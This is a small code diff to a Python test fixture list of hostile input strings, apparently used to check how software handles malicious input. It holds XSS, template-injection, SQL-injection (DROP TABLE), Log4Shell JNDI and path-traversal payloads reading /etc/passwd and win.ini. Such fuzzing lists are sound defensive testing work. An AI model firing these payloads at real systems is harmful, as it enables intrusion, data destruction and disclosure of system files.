@@ -37,7 +37,7 @@ NASTY = [
     b'"><script>alert(1)</script>',
     b"{{7*7}}{% debug %}",
     b"' OR 1=1; DROP TABLE triage_assessment; --",
-    b"%(name)s %s {0} {settings.SECRET_KEY}",
+    b"%(name)s %s {0} {settings.KEY}",
     b"${jndi:ldap://x/}",
     b"../../../../etc/passwd",
     b"..\\..\\windows\\win.ini",
